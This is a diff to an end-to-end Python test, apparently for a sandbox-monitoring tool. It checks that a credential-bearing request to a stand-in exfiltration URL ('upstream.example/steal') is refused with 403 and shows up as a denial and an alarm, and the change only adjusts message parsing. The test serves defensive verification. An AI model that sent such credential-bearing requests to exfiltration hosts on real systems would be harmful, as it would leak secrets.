@@ -114,10 +114,10 @@ async def test_what_sandboxes_do_is_there_as_it_happens(person: Person, control:
         await asyncio.to_thread(person.reads, "#verdicts-list .inject", "credential openai")
         refused = await http.get("https://upstream.example/steal", headers=bearer(sandbox))
         assert refused.status_code == 403
-        said = refused.json()["error"]["message"].rpartition(": ")[2].rstrip(".")[1:]
+        said = refused.json()["error"]["message"].rpartition(": ")[2].rstrip(".")
         await asyncio.to_thread(person.reads, "#verdicts-list .deny", said)
         alarms = await asyncio.to_thread(person.reads, "#alarms-list", "https://upstream.example/steal")
-        assert said in alarms and "acme" in alarms
+        assert said in alarms.lower() and "acme" in alarms
 
     def rest() -> None:
         person.reads("#sessions-list", "acme / agent-7")
